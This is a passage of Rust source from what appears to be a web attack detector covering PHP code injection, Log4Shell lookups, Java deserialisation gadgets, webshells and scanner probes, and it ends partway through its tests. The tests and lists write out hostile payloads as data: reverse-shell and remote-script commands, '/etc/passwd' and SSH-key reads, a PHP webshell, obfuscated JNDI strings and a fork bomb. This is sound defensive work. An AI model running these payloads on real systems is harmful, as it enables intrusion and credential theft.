    // `<?xml-stylesheet` instruction: PHP's short open tag followed by code
    // (`<?xml :echo 1;`, `<?xml(…)`).
    for (i, _) in l.match_indices("<?xml") {
        let rest = l[i + 5..].trim_start();
        if rest.starts_with([':', '(', ';', '$', '@']) {
            return Some((0.85, "PHP short open tag"));
        }
    }
    // A short open tag ending the value (`…<?`): what follows was cut off or is sent next.
    if l.trim_end().ends_with("<?") {
        return Some((0.6, "PHP open tag at value end"));
    }
    // PHP stream wrappers (the manual's list): an include() or fopen() target.
    const WRAPPERS: &[&str] = &[
        "php://",
        "phar://",
        "zip://",
        "compress.zlib://",
        "compress.bzip2://",
        "ssh2.shell://",
        "ssh2.exec://",
        "ssh2.tunnel://",
        "ssh2.sftp://",
        "ssh2.scp://",
        "expect://",
        "glob://",
        "rar://",
        "ogg://",
        "data://",
    ];
    if l.contains("://") && WRAPPERS.iter().any(|w| l.contains(w)) {
        return Some((0.85, "PHP stream wrapper"));
    }
    // `<? php …`, `<?\tphp`, short open tags followed by a statement (`<? echo …`).
    for (i, _) in l.match_indices("<?") {
        let rest = l[i + 2..].trim_start_matches([' ', '\t', '\n', '\r']);
        let ws = rest.len() < l.len() - i - 2;
        let word: &str = rest
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '_')
            .next()
            .unwrap_or("");
        if ws && (word == "php" || PHP_FUNCS.contains(&word) || word == "echo" || word == "print") {
            return Some((0.85, "PHP open tag"));
        }
    }
    // A php.ini directive set in a value (`auto_prepend_file=…` through
    // PHP-CGI's `-d`, a `.user.ini` upload or `ini_set` gadgets): our list
    // of the directives that load code, open files or lift limits.
    if l.contains('=') {
        for d in PHP_INI {
            if let Some(i) = l.find(d)
                // At the start of the value, of a line or statement, or after `-d`.
                && (i == 0
                    || matches!(
                        l.as_bytes().get(i - 1),
                        Some(b'\n' | b';' | b'"' | b'\'' | b'&')
                    )
                    || l[..i].trim_end().ends_with("-d"))
                // A family prefix (`opcache.`) takes the rest of the directive's name.
                && {
                    let mut r = &l[i + d.len()..];
                    if d.ends_with('.') {
                        r = r.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.');
                    }
                    r.trim_start().starts_with('=')
                }
            {
                return Some((0.7, "php.ini directive"));
            }
        }
    }
    // Template and forum tags that run PHP (Smarty `{php}`, BBCode-style `[php]`).
    for t in ["{php}", "{/php}", "[php]", "[/php]"] {
        if l.contains(t) {
            return Some((0.8, "PHP template tag"));
        }
    }
    // Superglobals start with `$`; the settings and wrappers have `_` or `:`.
    let names = if l.contains(['$', '_', ':']) { 17 } else { 0 };
    for v in [
        "$_get",
        "$_post",
        "$_request",
        "$_server",
        "$_cookie",
        "$_files",
        "$_env",
        "$_session",
        "$globals",
        "php://input",
        "php://filter",
        "allow_url_include",
        "auto_prepend_file",
        "auto_append_file",
        "disable_functions",
        "safe_mode",
        "open_basedir",
    ]
    .iter()
    .take(names)
    {
        if l.contains(v) {
            return Some((0.85, "PHP superglobal or setting"));
        }
    }
    // Serialized PHP objects: O:8:"stdClass":1:{…}
    let b = l.as_bytes();
    for (i, _) in l.match_indices("o:") {
        if (i == 0 || !b[i - 1].is_ascii_alphanumeric())
            && b.get(i + 2).is_some_and(|c| c.is_ascii_digit())
            && l[i..].contains(":{")
            && l[i..].contains("\":")
        {
            return Some((0.85, "serialized PHP object"));
        }
    }
    // `gzuncompress/*x*/(…)`: PHP ignores comments between a name and `(`.
    let folded;
    let l = if l.contains("/*") || l.contains('\n') && l.contains(['#', '/']) {
        folded = strip_line_comments(&strip_c_comments(l));
        folded.as_str()
    } else {
        l
    };
    for (i, _) in l.match_indices('(') {
        let head = &l[..i];
        let head = head.trim_end();
        let w_start = head
            .char_indices()
            .rev()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || *c == '_'))
            .map(|(p, c)| p + c.len_utf8())
            .unwrap_or(0);
        let w = &head[w_start..];
        if PHP_FUNCS.contains(&w) || super::vocab::php_function(w) {
            let prev = head[..w_start].trim_end();
            let ctx_ok = prev.is_empty()
                || prev.ends_with([
                    ';', '@', '(', '.', '=', '{', '}', '?', '>', ',', '"', '\'', '|', '&', '!',
                ])
                || prev.ends_with("echo")
                || prev.ends_with("print")
                || prev.ends_with("return");
            let arg = l[i + 1..].trim_start();
            // A name that is no English word ending the value (`base64_decode(`):
            // a payload cut short or probed for a filter.
            let bare = arg.is_empty() && w.contains('_');
            let arg_ok = bare
                || arg.starts_with(['$', '"', '\'', '(', ')', '@', '_'])
                || arg.starts_with(|c: char| c.is_ascii_alphabetic())
                    && (arg.contains('(') || arg.contains(')'));
            if ctx_ok
                && arg_ok
                && !matches!(
                    w,
                    "file"
                        | "copy"
                        | "die"
                        | "exit"
                        | "md5"
                        | "mail"
                        | "glob"
                        | "chr"
                        | "touch"
                        | "rename"
                )
            {
                return Some((0.85, "PHP function call"));
            }
        }
    }
    // A variable called as a function (`$a(1)`, `$$b(2)`, `@$__['o'](4)`): PHP
    // grammar, `$name [ [index] ]* (`.
    if PHP_VAR_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
        return Some((0.75, "PHP variable function call"));
    }
    // A string expression called as a function: `("sys"."tem")('id')`, `(system)('id')`.
    if PHP_DYN_CALL.as_ref().is_some_and(|r| r.is_match(l)) {
        return Some((0.75, "PHP dynamic function call"));
    }
    // A braced variable name called (`${@a}(10)`, `${$foo->bar}(200)`).
    if (l.contains("${") || l.contains("$ "))
        && PHP_BRACED_CALL.as_ref().is_some_and(|r| r.is_match(l))
    {
        return Some((0.75, "PHP variable function call"));
    }
    // An execution function's name as a string or array literal, called:
    // `"system"(ls)`, `(system)(ls)`, `[system][0](ls)`, `"sys"."tem"('id')`.
    if let Some(v) = php_literal_call(l) {
        return Some(v);
    }
    // Variable variables with a quoted or variable name: `${'a'}`, `$ {$b}`.
    if PHP_VARVAR.as_ref().is_some_and(|r| r.is_match(l)) {
        return Some((0.6, "PHP variable variable"));
    }
    // Variable functions: $x($y), ${…}
    if l.contains("$")
        && (l.contains(")(") || l.contains("${") && l.contains('}') && l.contains('('))
        && (l.contains(';') || l.contains('"'))
    {
        return Some((0.6, "PHP variable function"));
    }
    None
}

/// php.ini directives that change what code runs or what it may reach
/// (from the PHP manual's ini list), or tune engine internals only an
/// attacker sets from a request (`opcache.`, `mbstring.` limits).
const PHP_INI: &[&str] = &[
    "allow_url_fopen",
    "allow_url_include",
    "auto_prepend_file",
    "auto_append_file",
    "open_basedir",
    "disable_functions",
    "disable_classes",
    "extension_dir",
    "zend_extension",
    "extension",
    "include_path",
    "sendmail_path",
    "session.save_path",
    "upload_tmp_dir",
    "user_ini.filename",
    "phar.readonly",
    "short_open_tag",
    "register_globals",
    "memory_limit",
    "max_execution_time",
    "unserialize_max_depth",
    "opcache.",
    "mbstring.",
    "pcre.backtrack_limit",
    "pcre.jit",
];

/// `s` without `//` and `#` comments that end at a line break (the line
/// break kept): PHP ignores them between a function name and its `(`. A
/// comment with no line break after it is left (it may be a URL or text).
fn strip_line_comments(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let lines: Vec<&str> = s.split('\n').collect();
    for (n, line) in lines.iter().enumerate() {
        if n > 0 {
            out.push('\n');
        }
        let cut = if n + 1 == lines.len() {
            None
        } else {
            let a = line
                .find("//")
                .filter(|&i| i == 0 || line.as_bytes()[i - 1] != b':');
            let b = line.find('#');
            match (a, b) {
                (Some(x), Some(y)) => Some(x.min(y)),
                (x, y) => x.or(y),
            }
        };
        out.push_str(cut.map_or(line, |c| &line[..c]));
    }
    out
}

/// `s` without its `/* … */` comments (an unclosed one runs to the end).
fn strip_c_comments(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find("/*") {
        out.push_str(&rest[..i]);
        rest = match rest[i + 2..].find("*/") {
            Some(j) => &rest[i + 2 + j + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    out
}

/// Log4Shell lookups with nested obfuscation folded: `${lower:j}` → `j`,
/// `${::-j}` → `j`, `${env:X:-j}` → `j`, `${upper:J}` → `j`. Lower-cased input.
pub fn fold_lookups(l: &str) -> String {
    let mut s = l.to_owned();
    for _ in 0..8 {
        let Some(start) = find_inner_lookup(&s) else {
            break;
        };
        let Some(len) = s[start..].find('}') else {
            break;
        };
        let inner = &s[start + 2..start + len];
        let repl = if let Some(p) = inner.rfind(":-") {
            inner[p + 2..].to_owned()
        } else if let Some(x) = inner
            .strip_prefix("lower:")
            .or_else(|| inner.strip_prefix("upper:"))
        {
            x.to_owned()
        } else if let Some(x) = inner.strip_prefix("jndi:") {
            // Keep jndi lookups; mark so the loop ends.
            format!("\u{1}jndi:{x}")
        } else if let Some(x) = inner.strip_prefix("date:") {
            x.trim_matches('\'').to_owned()
        } else {
            inner.to_owned()
        };
        s.replace_range(start..start + len + 1, &repl);
    }
    s.replace('\u{1}', "${")
}

/// Start of a `${…}` with no `${` inside it.
fn find_inner_lookup(s: &str) -> Option<usize> {
    let mut best = None;
    for (i, _) in s.match_indices("${") {
        let close = s[i..].find('}')?;
        if !s[i + 2..i + close].contains("${") && !s[i + 2..].starts_with("jndi:") {
            best = Some(i);
            break;
        }
    }
    best
}

/// Gadget class names of the public Java deserialisation chains (ysoserial:
/// commons-collections transformers and closures, Groovy, Spring, JDK).
const GADGETS: &[&str] = &[
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "instantiatetransformer",
    "invokertransformer",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "whileclosure",
    "chainedtransformer",
    "constanttransformer",
    "lazymap",
    "transformedmap",
    "templatesimpl",
    "annotationinvocationhandler",
    "badattributevalueexpexception",
    "methodclosure",
    "convertedclosure",
    "mozilla.javascript",
];

static JAVA_GADGETS: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| aho_corasick::AhoCorasick::new(GADGETS).ok());

/// Packages whose classes have no business in a request parameter; a value
/// naming one of their classes (`java.io.FileInputStream`) is an attempt to
/// have a deserialiser or expression engine load it.
const JAVA_PACKAGES: &[&str] = &[
    "java.io.",
    "java.net.",
    "java.nio.",
    "java.rmi.",
    "java.beans.",
    "java.util.",
    "java.security.",
    "javax.",
    "org.omg.",
    "org.apache.commons",
    "org.apache.xalan",
    "org.codehaus.groovy",
    "com.opensymphony.xwork2",
    "com.sun.",
    "sun.reflect",
    "sun.rmi",
    "jdk.internal",
];

/// Whether the package `p` found in `l` is followed by an identifier (a class
/// or sub-package), i.e. a qualified name, not prose ending in `java.`.
fn java_fqcn_after(l: &str, p: &str) -> bool {
    l.match_indices(p).any(|(i, m)| {
        l[i + m.len()..]
            .bytes()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic())
            || !p.ends_with('.')
    })
}

/// Base64 (standard alphabet) of `b` as it appears at each of the three byte
/// alignments inside a longer encoded blob: only the characters that depend
/// on `b` alone.
pub fn base64_alignments(b: &[u8]) -> Vec<String> {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    (0..3usize)
        .map(|k| {
            let mut v = vec![0u8; k];
            v.extend_from_slice(b);
            let bits = v.len() * 8;
            let full = bits / 6;
            let start = (k * 8).div_ceil(6);
            (start..full)
                .map(|i| {
                    let mut x = 0u32;
                    for j in 0..6 {
                        let bit = i * 6 + j;
                        let byte = v[bit / 8];
                        x = (x << 1) | ((byte >> (7 - bit % 8)) & 1) as u32;
                    }
                    A[x as usize] as char
                })
                .collect()
        })
        .collect()
}

/// Base64 of gadget names (lower-case and capitalised) and of the Java
/// serialisation magic `AC ED 00 05`, at every alignment.
static JAVA_B64: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| aho_corasick::AhoCorasick::new(java_b64_patterns()).ok());

/// The patterns of the base64 Java detector (for prefilters that must let them through).
pub fn java_b64_patterns() -> Vec<String> {
    let mut pats: Vec<String> = Vec::new();
    for g in GADGETS
        .iter()
        .chain(["runtime", "processbuilder", "classloader", "java.lang"].iter())
    {
        let mut cap = g.to_string();
        if let Some(f) = cap.get_mut(..1) {
            f.make_ascii_uppercase();
        }
        for w in [g.to_string(), cap] {
            pats.extend(base64_alignments(w.as_bytes()));
        }
    }
    pats.extend(base64_alignments(&[0xac, 0xed, 0x00, 0x05]));
    pats.retain(|p| p.len() >= 5);
    pats
}

/// Java classes, methods and OGNL names of exploits (lower-case).
const JAVA_NAMES: &[&str] = &[
    "java.lang.runtime",
    "java.lang.processbuilder",
    "java.lang.system",
    "java.lang.class",
    "java.lang.reflect",
    "java.io.file",
    "java.net.url",
    "java.net.socket",
    "javax.script",
    "javax.naming",
    "getruntime(",
    ".getruntime",
    "processbuilder",
    "classloader",
    "getclass(",
    "forname(",
    "newinstance(",
    "getmethod(",
    "invoke(",
    "org.apache.commons.collections",
    "invokertransformer",
    "chainedtransformer",
    "constanttransformer",
    "instantiatetransformer",
    "templatesimpl",
    "com.sun.org.apache",
    "org.springframework",
    "xalan",
    "bsh.interpreter",
    "groovy.lang",
    "ognl",
    "#_memberaccess",
    "@ognl",
    "#context",
    "xwork",
    "class.module.classloader",
    "class.classloader",
    "getruntime().exec",
    "runtime.exec",
    "t(java.",
    "jdk.jshell",
    "com.sun.rowset",
    "jdbcrowsetimpl",
    "c3p0",
    "rmiconnector",
    "jndiref",
    "java.util.scanner",
    "java.beans.xmldecoder",
    "xmldecoder",
    "<java",
    "java.lang.",
    "clonetransformer",
    "forclosure",
    "instantiatefactory",
    "nativeinvoker",
    "java.lang.thread",
    "sun.misc",
    "getdeclaredmethod",
    "getdeclaredfield",
    "setaccessible",
];

/// [`JAVA_NAMES`] in one automaton (each value was searched once per name).
static JAVA_NAMES_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(JAVA_NAMES)
            .ok()
    });

/// [`SENSITIVE_FILES`] in one automaton.
static SENSITIVE_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(SENSITIVE_FILES)
            .ok()
    });

/// Java attacks: JNDI lookups, deserialisation gadgets, OGNL/SpEL, class loading.
pub fn java(raw: &str, l: &str) -> Option<(f32, &'static str)> {
    if l.contains("${") || l.contains("%24%7b") {
        let f = fold_lookups(l);
        if f.contains("${jndi:")
            || f.contains("jndi:ldap")
            || f.contains("jndi:rmi")
            || f.contains("jndi:dns")
        {
            return Some((0.95, "JNDI lookup (Log4Shell)"));
        }
        if f.contains("${")
            && (f.contains("${env:")
                || f.contains("${sys:")
                || f.contains("${java:")
                || f.contains("${main:")
                || f.contains("${ctx:")
                || f.contains("${base64:")
                || f.contains("${bundle:")
                || f.contains("${k8s:")
                || f.contains("${docker:")
                || f.contains("${spring:")
                || f.contains("${log4j:")
                || f.contains("${web:")
                || f.contains("${script:"))
        {
            return Some((0.8, "Log4j lookup"));
        }
    }
    if raw.contains("rO0AB")
        || raw.contains("\u{ac}\u{ed}\u{0}\u{5}")
        || l.contains("aced0005")
        || raw.contains("H4sIAAAAAAAA") && l.contains("ro0")
    {
        return Some((0.9, "Java serialized object"));
    }
    if JAVA_NAMES_AC.as_ref().is_some_and(|a| a.is_match(l)) {
        return Some((0.85, "Java class or method"));
    }
    if (l.contains("%{") || l.contains("${"))
        && (l.contains("#") || l.contains("@java"))
        && l.contains('(')
    {
        return Some((0.8, "OGNL expression"));
    }
    // A dangerous class named with its package (`java.evil.Runtime`, `java.ProcessBuilder`).
    if (l.contains("java.") || l.contains(".java"))
        && (l.contains("runtime") || l.contains("processbuilder") || l.contains("classloader"))
    {
        return Some((0.8, "Java class or method"));
    }
    // Commons-collections/Groovy gadget classes used in an expression (`runtime.whileclosure`).
    if let Some(ac) = JAVA_GADGETS.as_ref()
        && ac.is_match(l)
    {
        return Some((0.8, "Java deserialisation gadget"));
    }
    // Fully qualified names in the packages gadgets and exploits reach for.
    if let Some(p) = JAVA_PACKAGES.iter().find(|p| l.contains(*p))
        && java_fqcn_after(l, p)
    {
        return Some((0.7, "Java class name"));
    }
    if let Some(ac) = JAVA_B64.as_ref()
        && ac.is_match(raw)
    {
        return Some((0.8, "base64 Java gadget or serialized object"));
    }
    // Base64 of "runtime", "processbuilder", "classloader" at the three alignments.
    for k in [
        "cnVudGltZ",
        "J1bnRpbW",
        "ydW50aW1l",
        "HJvY2Vzc2J1aWxkZXI",
        "Byb2Nlc3NCdWlsZGVy",
        "wcm9jZXNzYnVpbGRlc",
        "Y2xhc3Nsb2FkZX",
        "NsYXNzbG9hZGVy",
        "jbGFzc2xvYWRlc",
        "UnVudGltZ",
        "J1bnRpbWU",
        "SdW50aW1l",
        "UHJvY2Vzc0J1aWxkZX",
        "Byb2Nlc3NCdWlsZGVy",
        "Qcm9jZXNzQnVpbGRlc",
    ] {
        if raw.contains(k) {
            return Some((0.8, "base64 Java class name"));
        }
    }
    None
}

/// Webshell access: known names in the path, or a script given a command parameter.
pub fn webshell(path_l: &str, params: &[(String, String)]) -> Option<(f32, &'static str)> {
    let file = path_l.rsplit('/').next().unwrap_or(path_l);
    let script = [
        ".php", ".asp", ".aspx", ".jsp", ".jspx", ".cgi", ".pl", ".ashx", ".cfm", ".phtml",
    ]
    .iter()
    .any(|e| file.ends_with(e));
    // Names match whole words of the file name (`c99.php`, `wso_2.php`), not
    // substrings of hex ids (`b8c30404-…-8c99-…`).
    // Static files (`.js`, `.png`, …) are neither webshells nor commands' targets.
    if !(script || file.is_empty() || !file.contains('.')) {
        return None;
    }
    // A name matches a whole word of the file name, or starts a word when
    // it has 4+ characters; names with `.`/`-` match the file name's start.
    let fb = file.as_bytes();
    let sep = |i: usize| i == 0 || matches!(fb.get(i - 1), Some(b'-' | b'_' | b'.' | b' '));
    let named = WEBSHELL_AC.as_ref().is_some_and(|a| {
        a.find_overlapping_iter(file).any(|m| {
            let n = WEBSHELLS.get(m.pattern().as_usize()).copied().unwrap_or("");
            let word_end =
                m.end() == fb.len() || matches!(fb.get(m.end()), Some(b'-' | b'_' | b'.' | b' '));
            if n.contains(['.', '-']) {
                m.start() == 0 || sep(m.start()) && (word_end || n.len() >= 4)
            } else {
                sep(m.start()) && (word_end || n.len() >= 4)
            }
        })
    });
    if named && (script || !file.contains('.')) {
        return Some((0.85, "known webshell name"));
    }
    if script || file.is_empty() || !file.contains('.') {
        for (k, v) in params {
            if SHELL_PARAMS.contains(&k.as_str()) {
                let first = v.split_whitespace().next().unwrap_or("");
                if is_command(first)
                    && (v.contains(' ')
                        || matches!(
                            first,
                            "id" | "whoami"
                                | "ls"
                                | "pwd"
                                | "uname"
                                | "ipconfig"
                                | "ifconfig"
                                | "dir"
                                | "hostname"
                        ))
                {
                    return Some((0.85, "command in webshell parameter"));
                }
            }
        }
    }
    None
}

fn ac(pats: &[&str]) -> Option<aho_corasick::AhoCorasick> {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(aho_corasick::AhoCorasickKind::DFA))
        .build(pats)
        .ok()
}

/// One automaton per list: a line's user agent and path are each scanned
/// once instead of once per list entry (this was a quarter of the run time).
static SCANNER_UA_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| ac(SCANNER_UA));
static SECRET_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| ac(SECRET_PATHS));
/// Probe paths matched anywhere (the others are suffixes).
static PROBE_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        let v: Vec<&str> = PROBE_PATHS
            .iter()
            .copied()
            .filter(|p| !(p.starts_with('.') || *p == "~"))
            .collect();
        ac(&v)
    });

static WEBSHELL_AC: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
    std::sync::LazyLock::new(|| {
        aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(WEBSHELLS)
            .ok()
    });

/// Whether a tool's user agent (any case).
pub fn scanner_ua(ua: &str) -> bool {
    SCANNER_UA_AC.as_ref().is_some_and(|a| a.is_match(ua))
}

/// Scanner signals of one request: a tool's user agent (any case) or a sensitive-path probe.
pub fn scanner(ua: Option<&str>, path_l: &str) -> Option<(f32, &'static str)> {
    if ua.is_some_and(scanner_ua) {
        return Some((0.9, "scanner user agent"));
    }
    // One request for a secret file is a probe; the other probe paths
    // (`/cgi-bin/`, `/shell…`, `.bak`) also name real pages, so alone they
    // stay under the flag threshold and count only in a burst of 404s.
    if SECRET_AC.as_ref().is_some_and(|a| a.is_match(path_l)) {
        return Some((0.6, "secret file probe"));
    }
    if probe_path(path_l) {
        return Some((0.4, "sensitive path probe"));
    }
    None
}

/// Files no visitor asks for: credentials, repositories, server configuration.
const SECRET_PATHS: &[&str] = &[
    "/.env",
    "/.git/",
    "/.svn/",
    "/.hg/",
    "/.aws/",
    "/.ssh/",
    "/.htpasswd",
    "/wp-config",
    "/vendor/phpunit",
    "/etc/passwd",
    "/.ds_store",
];

/// Whether a (lower-cased, decoded) path is a probe for something sensitive.
pub fn probe_path(path_l: &str) -> bool {
    PROBE_AC.as_ref().is_some_and(|a| a.is_match(path_l))
        || PROBE_PATHS
            .iter()
            .filter(|p| p.starts_with('.') || **p == "~")
            .any(|p| path_l.ends_with(p))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_grammar_additions() {
        // Vocabulary: programs with versions, subcommand families.
        assert!(rce(";python3.10 -c 'import os'").is_some());
        assert!(rce("chef-client -t 1.1.1.1").is_some());
        assert!(rce("env --version").is_some());
        assert!(rce("curl http://x.example/a.sh").is_some());
        assert!(rce("a=1&bcdboot /r file.txt").is_some());
        // Evasions: empty substitutions, unset variables, glued quotes, empty brace items.
        assert!(rce("pi``ng 127.0.0.1").is_some());
        assert!(rce("ping$() 127.0.0.1").is_some());
        assert!(rce(";$a cat /etc/hosts").is_some());
        assert!(rce("'wh'oami;").is_some());
        assert!(rce("{,cd,/etc,}").is_some());
        // Bash expansions and builtins.
        assert!(rce("$((1+2))").is_some());
        assert!(rce("${path%/*}").is_some());
        assert!(rce("alias ll='ls -al'").is_some());
        assert!(rce("~-1").is_some());
        assert!(rce("base64").is_none());
        assert!(rce("!-1!-2").is_some());
        // cmd.exe conditionals with quoted operands.
        assert!(rce("if \"a a\" == \"a a\" echo same").is_some());
        assert!(rce("if/i a==b foo").is_some());
        assert!(rce("& for %- in (a,b,c) do cmd").is_some());
        // SQLite and `.` after a separator.
        assert!(rce(";\n.shell nc 10.0.0.1 6666 -e sh").is_some());
        // Mail protocol commands after a line break.
        assert!(rce("\r\nmail from:<a@b.com>").is_some());
        assert!(rce("\r\nretr 123").is_some());
        assert!(rce("\r\na001 examine inbox").is_some());
        // Negatives: prose, code and ordinary values.
        assert!(rce("python tutorial").is_none());
        assert!(rce("i love the dev-ops way").is_none());
        assert!(rce("that's o'keefe's").is_none());
        assert!(rce("if (a == b) { x(); }").is_none());
        assert!(rce("dear team,\r\nplease list the items\r\nthanks").is_none());
        assert!(rce("see ~ you").is_none());
        assert!(rce("wow!!!").is_none());
        assert!(rce("${user.name}").is_none());
        assert!(starts_with_command("time ifconfig"));
        assert!(!starts_with_command("Mozilla/5.0 (X11; Linux x86_64)"));
        assert!(!starts_with_command("curl/8.5.0"));
    }

    #[test]
    fn php_grammar_additions() {
        assert!(php("<?xml :echo 1;").is_some());
        assert!(php("<?xml version=\"1.0\"?><a/>").is_none());
        assert!(php("test<?").is_some());
        assert!(php("phar://x.zip/a.txt").is_some());
        assert!(php("compress.bzip2://file.bz2").is_some());
        assert!(php("opcache.jit_max_polymorphic_calls=50").is_some());
        assert!(php("array_diff (").is_some());
        assert!(php("is_array()").is_some());
        assert!(php("exec //comment\r\n (blah)").is_some());
        assert!(php("$__[$_[1]](7)").is_some());
        assert!(php("${@a}(10)").is_some());
        assert!(php("(system)(ls);").is_some());
        assert!(php("[system][0](ls);").is_some());
        assert!(php("(string)\"sys\".\"tem\"('uname');").is_some());
        assert!(php("$a{}()").is_none());
        assert!(php("the \"system\" (as we know it)").is_none());
        assert!(php("call me at 5 (maybe)").is_none());
    }

    #[test]
    fn remote_urls() {
        use crate::detect::web::Class;
        let rfi = |n: &str, v: &str| {
            url_param(n, v, Some("localhost"))
                .iter()
                .any(|(c, _, _)| *c == Class::Rfi)
        };
        assert!(rfi("x", "ftp://foo.bar"));
        assert!(rfi("x", "file://foo.bar"));
        assert!(rfi("x", "url:file:///etc/passwd"));
        assert!(rfi("x", "jar:http://evil.co/b.zip!a"));
        assert!(rfi("x", "gopher://google.com/_x"));
        assert!(rfi("x", "https://example.com:1234/"));
        assert!(rfi("x", "http://example.com/@evil.com/"));
        assert!(!rfi("x", "https://example.com/page"));
        assert!(!rfi("x", "file:///tmp/a"));
        assert!(!rfi("x", "http://localhost:8080/"));
    }

    #[test]
    fn classes() {
        assert!(traversal("../../../etc/passwd").is_some());
        assert!(traversal("....//....//etc/passwd").is_some());
        assert!(traversal("/images/logo.png").is_none());
        assert!(rce("x;cat /etc/passwd").is_some());
        assert!(rce("1|c\\at${ifs}/etc/passwd").is_some());
        assert!(rce("a=1&id=2").is_none());
        assert!(rce("tom & jerry").is_none());
        assert!(SHELL_FUNC.is_some() && WIN_FOR.is_some() && WIN_IF.is_some());
        assert!(rce(":(){ :|:& };:").is_some());
        assert!(rce("for /f \"tokens=*\" %%a in ('dir') do echo %%a").is_some());
        assert!(rce("& if exist c:\\boot.ini type c:\\boot.ini").is_some());
        assert!(rce("time sh -c whoami").is_some());
        assert!(rce("x;c$!at /et$!c/pas$!swd").is_some());
        assert!(rce("uname$u -a;").is_some());
        assert!(rce("cd /;cd etc;column passwd").is_some());
        assert!(rce("see you at the party; more news later").is_none());
        assert!(rce("for the people in (the) world do good").is_none());
        assert!(rce("if you like it, buy it").is_none());
        assert!(php("<?php system($_get['c']); ?>").is_some());
        assert!(php("phpinfo()").is_some());
        assert!(php("i like php (a lot)").is_none());
        assert!(PHP_VAR_CALL.is_some() && PHP_DYN_CALL.is_some() && PHP_VARVAR.is_some());
        assert!(php("$a(1)").is_some());
        assert!(php("@$__['o'](4)").is_some());
        assert!(php("(\"sys\".\"tem\")('uname');").is_some());
        assert!(php("${'ff'}").is_some());
        assert!(php("costs $5 (about)").is_none());
        assert!(php("$(document).ready(").is_none());
        assert!(traversal("cat /root/.ssh/id_rsa").is_some());
        assert!(java("x", "${jndi:ldap://evil/a}").is_some());
        assert!(java("x", "${${lower:j}${::-n}di:ldap://evil/a}").is_some());
        assert!(java("x", "${${env:foo:-j}ndi:ldap://x}").is_some());
        assert!(java("x", "hello world").is_none());
        assert!(webshell("/uploads/c99.php", &[]).is_some());
        assert!(webshell("/x.php", &[("cmd".into(), "cat /etc/passwd".into())]).is_some());
        assert!(scanner(Some("sqlmap/1.7"), "/").is_some());
        assert!(scanner(None, "/.git/config").is_some());
        assert!(scanner(Some("mozilla/5.0"), "/index.html").is_none());
    }

    #[test]
    fn globs_braces_and_powershell() {
        assert!(glob_match(b"/usr/[a-z]in/bash", b"/usr/bin/bash"));
        assert!(glob_match(b"/etc/[!q]asswd", b"/etc/passwd"));
        assert!(!glob_match(b"/etc/[!p]asswd", b"/etc/passwd"));
        assert!(glob_match(b"/???/c?t", b"/bin/cat"));
        assert!(glob_match(b"/e*/pa*", b"/etc/passwd"));
        assert!(!glob_match(b"/e*/x*", b"/etc/passwd"));
        assert!(rce("/usr/[a-z]in/bash").is_some());
        assert!(rce("see /docs/[a-z]/index").is_none());
        assert!(rce("{cat,/etc/passwd}").is_some());
        assert!(rce("c{a,oun}t /etc/hosts").is_some());
        assert!(rce("{\"a\":1,\"b\":2}").is_none());
        assert!(rce("colors {red,green}").is_none());
        assert!(rce("$shell -c \"echo hi\"").is_some());
        assert!(rce(";iex (iwr http://10.0.0.1/x.ps1)").is_some());
        assert!(rce("invoke-expression -command file.ps1").is_some());
        assert!(rce("sip (a drink) slowly").is_none());
    }

    #[test]
    fn restricted_files_and_php_tags() {
        assert!(traversal(".ssh/id_rsa").is_some());
        assert!(traversal("/sys/class").is_some());
        assert!(traversal("0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd").is_some());
        assert!(restricted("/wp-content/debug.log").is_some());
        assert!(restricted("/.claude/settings.json").is_some());
        assert!(restricted("/index.php").is_none());
        assert!(restricted("/environment/overview").is_none());
        assert!(php("<? php echo \"test\"").is_some());
        assert!(php("<?xml version=\"1.0\"?><a/>").is_none());
        assert!(php("[php]echo 'test';[/php]").is_some());
        assert!(php("gzuncompress/*x*/($a)").is_some());
        assert!(php("base64_decode(").is_some());
        assert!(php("please decode(").is_none());
        assert!(php("auto_prepend_file=php://input").is_some());
        assert!(php("memory_limit = 512m").is_some());
        assert!(php("file extension = pdf").is_none());
    }
}

#[cfg(test)]
mod b64_tests {
    use super::*;

    #[test]
    fn base64_alignments_match_real_encodings() {
        // "rO0ABQ" is how every base64 Java serialised stream starts.
        let a = base64_alignments(&[0xac, 0xed, 0x00, 0x05]);
        assert!("rO0ABXNy".starts_with(&a[0]), "{a:?}");
        assert!(a.iter().all(|p| !p.is_empty()));
        // Each alignment is found in the encoding of the word behind 0, 1, 2 bytes.
        assert_eq!(base64_alignments(b"runtime")[0], "cnVudGltZ");
        assert!(java("x", "x").is_none());
        assert!(java("Y2xvbmV0cmFuc2Zvcm1lcg", "y2xvbmv0cmfuc2zvcm1lcg").is_some());
    }

    #[test]
